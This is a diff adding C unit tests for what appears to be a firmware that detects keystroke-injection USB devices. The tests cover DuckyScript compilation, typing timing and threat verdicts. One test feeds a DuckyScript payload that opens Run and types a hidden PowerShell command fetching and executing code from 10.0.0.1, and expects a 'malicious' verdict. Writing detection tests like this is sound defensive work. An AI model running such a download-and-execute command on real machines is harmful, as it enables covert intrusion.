@@ -0,0 +1,217 @@
+/*
+ * PlugSafe Host Simulator - Synthetic Trace Tests
+ * DuckyScript compilation, the human typing model, and both through the firmware
+ * Copyright (c) 2026
+ *
+ * This program is free software: you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation, either version 3 of the License, or
+ * (at your option) any later version.
+ */
+
+#include "sim_test.h"
+#include "sim_firmware.h"
+#include "replay.h"
+#include "hid_trace.h"
+#include "synth.h"
+#include "ducky.h"
+#include "typing_model.h"
+#include "threat_analyzer.h"
+
+#define TRACE_DEV_ADDR                1
+#define MAX_REPORTS                   64
+
+typedef struct {
+    uint64_t time_us;
+    uint8_t data[SYNTH_REPORT_SIZE];
+} report_t;
+
+static uint8_t g_trace[256 * 1024];
+static hid_trace_writer_t g_writer;
+static synth_keyboard_t g_kbd;
+static report_t g_reports[MAX_REPORTS];
+static size_t g_trace_len;
+
+static const synth_device_t g_dev = {
+    .dev_addr = TRACE_DEV_ADDR, .vid = 0x16C0, .pid = 0x27DB, .product = "Keyboard"
+};
+
+static void _begin(void) {
+    hid_trace_writer_init(&g_writer, g_trace, sizeof(g_trace), 0);
+    synth_write_keyboard(&g_writer, &g_dev, 0);
+    synth_keyboard_init(&g_kbd, &g_writer, 0, 0);
+}
+
+/**
+ * @brief Finish the trace and read its first MAX_REPORTS reports back
+ */
+static size_t _finish(void) {
+    g_trace_len = hid_trace_finish(&g_writer);
+    hid_trace_reader_t r;
+    hid_trace_record_t rec;
+    size_t n = 0;
+    if (!hid_trace_reader_init(&r, g_trace, g_trace_len)) {
+        return 0;
+    }
+    while (hid_trace_next(&r, &rec) && rec.type != HT_REC_END) {
+        if (rec.type == HT_REC_REPORT && n < MAX_REPORTS) {
+            g_reports[n].time_us = rec.report.time_us;
+            memcpy(g_reports[n].data, rec.report.data, SYNTH_REPORT_SIZE);
+            n++;
+        }
+    }
+    return n;
+}
+
+static bool _compile(const char *script, const ducky_options_t *opt, ducky_error_t *err) {
+    ducky_options_t defaults;
+    ducky_default_options(&defaults);
+    _begin();
+    return ducky_compile(script, opt ? opt : &defaults, &g_kbd, NULL, err);
+}
+
+static bool _report_is(size_t i, uint8_t modifiers, uint8_t key) {
+    const uint8_t expect[SYNTH_REPORT_SIZE] = { modifiers, 0, key };
+    return memcmp(g_reports[i].data, expect, sizeof(expect)) == 0;
+}
+
+static void test_ducky_string_timing(void) {
+    CHECK(_compile("STRING aB\n", NULL, NULL));
+    CHECK(_finish() == 4);
+    CHECK(_report_is(0, 0, 0x04) && g_reports[0].time_us == 0);
+    CHECK(_report_is(1, 0, 0) && g_reports[1].time_us == 5000);
+    /* 5 ms hold, then the 5 ms STRING gap */
+    CHECK(_report_is(2, SYNTH_MOD_LSHIFT, 0x05) && g_reports[2].time_us == 10000);
+    CHECK(g_kbd.keystrokes == 2 && g_kbd.first_key_us == 0);
+}
+
+static void test_ducky_chords_and_delays(void) {
+    const char *script =
+        "REM comment\r\n"
+        "DEFAULT_DELAY 100\n"
+        "DELAY 500\n"
+        "GUI r\n"
+        "CTRL-SHIFT ESC\n"
+        "CTRL ALT DELETE\n";
+    CHECK(_compile(script, NULL, NULL));
+    CHECK(_finish() == 6);
+    /* DELAY 500 + default 100 */
+    CHECK(_report_is(0, SYNTH_MOD_LGUI, 0x15) && g_reports[0].time_us == 600000);
+    CHECK(_report_is(2, SYNTH_MOD_LCTRL | SYNTH_MOD_LSHIFT, 0x29));
+    CHECK(g_reports[2].time_us == g_reports[1].time_us + 100000);
+    CHECK(_report_is(4, SYNTH_MOD_LCTRL | SYNTH_MOD_LALT, 0x4C));
+}
+
+static void test_ducky_repeat_hold_and_stringln(void) {
+    CHECK(_compile("STRING_DELAY 50\nSTRINGLN x\nTAB\nREPEAT 2\n", NULL, NULL));
+    CHECK(_finish() == 10);
+    CHECK(_report_is(2, 0, SYNTH_KEY_ENTER) && g_reports[2].time_us == 55000);
+    CHECK(_report_is(4, 0, 0x2B) && _report_is(6, 0, 0x2B) && _report_is(8, 0, 0x2B));
+
+    CHECK(_compile("HOLD ALT\nTAB\nTAB\nRELEASE ALT\n", NULL, NULL));
+    CHECK(_finish() == 6);
+    CHECK(_report_is(0, SYNTH_MOD_LALT, 0));
+    CHECK(_report_is(1, SYNTH_MOD_LALT, 0x2B) && _report_is(2, SYNTH_MOD_LALT, 0));
+    CHECK(_report_is(5, 0, 0));
+}
+
+static void test_ducky_errors(void) {
+    ducky_error_t err;
+    CHECK(!_compile("STRING ok\nFOO bar\n", NULL, &err));
+    CHECK(err.line == 2 && strstr(err.message, "FOO"));
+    CHECK(!_compile("DELAY soon\n", NULL, &err));
+    CHECK(err.line == 1);
+    CHECK(!_compile("REPEAT 3\n", NULL, &err));
+}
+
+static void test_jitter_is_seeded(void) {
+    ducky_options_t opt;
+    ducky_default_options(&opt);
+    CHECK(synth_jitter_parse("normal:2.5", &opt.jitter));
+    CHECK(opt.jitter.kind == SYNTH_JITTER_NORMAL && opt.jitter.amount_us == 2500);
+    CHECK(!synth_jitter_parse("gauss:2", &opt.jitter) && !synth_jitter_parse("exp:", &opt.jitter));
+    CHECK(synth_jitter_parse("uniform:20", &opt.jitter));
+
+    const char *script = "STRING the quick brown fox\n";
+    opt.seed = 7;
+    CHECK(_compile(script, &opt, NULL));
+    _finish();
+    static uint8_t first[sizeof(g_trace)];
+    size_t first_len = g_trace_len;
+    memcpy(first, g_trace, first_len);
+
+    CHECK(_compile(script, &opt, NULL));
+    _finish();
+    CHECK(g_trace_len == first_len && memcmp(first, g_trace, first_len) == 0);
+
+    opt.seed = 8;
+    CHECK(_compile(script, &opt, NULL));
+    size_t n = _finish();
+    CHECK(g_trace_len != first_len || memcmp(first, g_trace, first_len) != 0);
+
+    /* Reports stay on the 1 ms poll grid and never closer than one poll */
+    CHECK(n == 38);
+    for (size_t i = 0; i < n; i++) {
+        CHECK(g_reports[i].time_us % 1000 == 0);
+        CHECK(i == 0 || g_reports[i].time_us >= g_reports[i - 1].time_us + 1000);
+    }
+}
+
+static void test_typing_model_rate(void) {
+    typing_options_t opt;
+    typing_default_options(&opt);
+    _begin();
+    typing_generate(120 * 1000000ull, &opt, &g_kbd);
+    _finish();
+    double keys_per_s = g_kbd.keystrokes / ((g_kbd.last_us - g_kbd.first_key_us) / 1e6);
+    CHECK(keys_per_s > 2.0 && keys_per_s < 4.5);
+    CHECK(g_kbd.reports == 2 * g_kbd.keystrokes);
+
+    uint32_t skipped;
+    _begin();
+    typing_type_text("Caf\xc3\xa9 open.\n", &opt, &g_kbd, &skipped);
+    CHECK(skipped == 2);              /* The two UTF-8 bytes of the e-acute */
+}
+
+/**
+ * @brief Replay the current trace through the firmware, device left mounted
+ */
+static threat_level_e _verdict(void) {
+    sim_firmware_boot(false);
+    replay_target_t target;
+    sim_firmware_replay_target(&target);
+    replay_options_t opt;
+    replay_default_options(&opt);
+    opt.unmount_at_end = false;
+    CHECK(replay_run(g_trace, g_trace_len, &target, &opt, NULL));
+    return threat_get_current_level(TRACE_DEV_ADDR);
+}
+
+static void test_payload_and_typist_through_firmware(void) {
+    /* Long enough to span full rate windows */
+    CHECK(_compile("DELAY 1000\nGUI r\nDELAY 200\n"
+                   "STRINGLN powershell -w hidden -c \"iwr http://10.0.0.1/x | iex\"\n"
+                   "REPEAT 3\n",
+                   NULL, NULL));
+    _finish();
+    CHECK(_verdict() == THREAT_MALICIOUS);
+
+    typing_options_t opt;
+    typing_default_options(&opt);
+    opt.wpm = 90;
+    _begin();
+    typing_generate(300 * 1000000ull, &opt, &g_kbd);
+    _finish();
+    CHECK(_verdict() == THREAT_POTENTIALLY_UNSAFE);
+}
+
+int main(void) {
+    RUN_TEST(test_ducky_string_timing);
+    RUN_TEST(test_ducky_chords_and_delays);
+    RUN_TEST(test_ducky_repeat_hold_and_stringln);
+    RUN_TEST(test_ducky_errors);
+    RUN_TEST(test_jitter_is_seeded);
+    RUN_TEST(test_typing_model_rate);
+    RUN_TEST(test_payload_and_typist_through_firmware);
+    return TEST_EXIT_CODE();
+}